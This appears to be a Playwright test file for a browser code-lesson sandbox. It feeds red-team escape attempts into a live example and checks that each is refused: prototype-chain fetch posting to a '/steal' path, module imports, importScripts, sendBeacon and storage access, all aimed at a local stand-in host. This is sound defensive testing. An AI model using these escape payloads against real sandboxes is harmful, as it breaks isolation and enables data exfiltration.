/**
 * The red-team's escapes from the sandbox, each typed into a live example as a learner would, with a
 * listener on another local port standing in for a foreign host: it must see no request, and the
 * example must say the route is closed.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import {
  expect as baseExpect,
  liveExample,
  narrowScreen,
  openOnce,
  replaceCode,
  runToEnd,
  sharedPageTest,
  test,
} from './fixtures';

const expect = baseExpect.configure({ timeout: 20_000 });

const LESSON = '/lessons/first-request/';
const FIRST = 'Your first GET request';

test.use({ permissions: ['clipboard-read', 'clipboard-write'], ...narrowScreen });
test.describe.configure({ mode: 'default' });

let listener: Server;
let foreign = '';
let hits: string[] = [];

test.beforeAll(async () => {
  listener = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('export default 1;');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  foreign = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));
test.beforeEach(() => {
  hits = [];
});

/** Runs `attack` in a try; the Console must say it was refused, and the listener see nothing. */
async function refused(page: Page, attack: string): Promise<void> {
  await openOnce(page, LESSON);
  const first = liveExample(page, FIRST);
  await replaceCode(
    page,
    first,
    [
      'const g = globalThis as any;',
      `const FOREIGN = ${JSON.stringify(foreign)};`,
      `try { await (async () => { ${attack} })(); console.log('escaped'); } catch { console.log('refused'); }`,
      'await new Promise((resolve) => setTimeout(resolve, 300));',
    ].join('\n'),
  );
  await runToEnd(first);
  await expect(first.status).toHaveText(/^(Finished|Failed)/);
  await expect(first.console.locator('.console-line').first()).toHaveText('refused');
  expect(hits).toEqual([]);
}

const ESCAPES: Record<string, string> = {
  "the worker's own fetch on the prototype chain":
    "await Object.getPrototypeOf(Object.getPrototypeOf(g)).fetch.call(g, FOREIGN + '/steal', { method: 'POST', body: 'x' });",
  'a string timer through the prototype':
    "Object.getPrototypeOf(Object.getPrototypeOf(g)).setTimeout.call(g, 'fetch(\"' + FOREIGN + '/string\")', 0);",
  'storage buckets, then Cache Storage':
    "const bucket = await g.navigator.storageBuckets.open('b'); const cache = await bucket.caches.open('c'); await cache.add(FOREIGN + '/cache');",
  'Cache Storage directly':
    "const cache = await g.caches.open('c'); await cache.add(FOREIGN + '/cache');",
  'the origin private file system': 'await g.navigator.storage.getDirectory();',
  "another tab's locks": 'await g.navigator.locks.query();',
  IndexedDB: "g.indexedDB.open('db');",
  // A literal specifier is already a compile error; a computed one reaches the sandbox.
  'a data: module':
    "const url = ['data:text/javascript', 'export default 1'].join(','); await import(url);",
  'a blob: module':
    "await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })));",
  'a remote module': "await import(FOREIGN + '/module.js');",
  importScripts: "g.importScripts(FOREIGN + '/script.js');",
  'a beacon': "g.navigator.sendBeacon(FOREIGN + '/beacon', 'x');",
};

for (const [name, attack] of Object.entries(ESCAPES)) {
  sharedPageTest(`escape: ${name} is closed`, async ({ lessonPage }) => {
    await refused(lessonPage, attack);
  });
}

/**
 * The second layer, tested as if learner code had found a way around every JavaScript-level guard: a
 * raw worker started in the sandbox frame, with the frame's own globals, tries the same routes. The
 * frame's opaque origin and CSP (inherited by its blob: workers) must close each one by themselves.
 */
test('escape: without the runtime’s guards, the sandbox frame itself closes the routes', async ({
  page,
}) => {
  await page.goto(LESSON);
  const first = liveExample(page, FIRST);
  await first.run.click();
  await expect(first.status).toHaveText(/^Finished/, { timeout: 40_000 });
  const frame = page.frames().find((candidate) => candidate.url() === 'about:srcdoc');
  expect(frame, 'the sandbox frame is on the page').toBeTruthy();

  const attacks = `
    const FOREIGN = ${JSON.stringify(foreign)};
    const results = {};
    const attempt = async (name, run) => {
      try { await run(); results[name] = 'escaped'; } catch (error) { results[name] = 'refused'; }
    };
    (async () => {
      await attempt('fetch', () => fetch(FOREIGN + '/raw-fetch'));
      await attempt('indexedDB', () => new Promise((resolve, reject) => {
        const request = indexedDB.open('db');
        request.onsuccess = resolve;
        request.onerror = () => reject(request.error);
      }));
      await attempt('caches', () => caches.open('c'));
      await attempt('string timer', () => new Promise((resolve, reject) => {
        try { setTimeout('self.ranString = true', 0); } catch (error) { reject(error); return; }
        setTimeout(() => (self.ranString ? resolve() : reject(new Error('blocked'))), 50);
      }));
      await attempt('eval', () => eval('1'));
      await attempt('data: module', () => import('data:text/javascript,export default 1'));
      await attempt('remote module', () => import(FOREIGN + '/raw-module.js'));
      await attempt('importScripts', () => importScripts(FOREIGN + '/raw-script.js'));
      postMessage({ origin: self.origin, results });
    })();
  `;
  const outcome = await frame!.evaluate(
    (source) =>
      new Promise<{ origin: string; results: Record<string, string> }>((resolve) => {
        const url = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
        const worker = new Worker(url);
        worker.onmessage = (event) => resolve(event.data);
      }),
    attacks,
  );
  expect(outcome.origin).toBe('null');
  expect(outcome.results).toEqual({
    fetch: 'refused',
    indexedDB: 'refused',
    caches: 'refused',
    'string timer': 'refused',
    eval: 'refused',
    'data: module': 'refused',
    'remote module': 'refused',
    importScripts: 'refused',
  });
  // And the frame's own document: no origin, no storage, no way out either.
  const inFrame = await frame!.evaluate(async (target) => {
    const tries: Record<string, string> = {};
    try {
      await fetch(`${target}/frame-fetch`);
      tries.fetch = 'escaped';
    } catch {
      tries.fetch = 'refused';
    }
    try {
      void localStorage.length;
      tries.localStorage = 'escaped';
    } catch {
      tries.localStorage = 'refused';
    }
    try {
      void document.cookie;
      tries.cookie = 'escaped';
    } catch {
      tries.cookie = 'refused';
    }
    return { origin: origin, tries };
  }, foreign);
  expect(inFrame).toEqual({
    origin: 'null',
    tries: { fetch: 'refused', localStorage: 'refused', cookie: 'refused' },
  });
  expect(hits).toEqual([]);
});
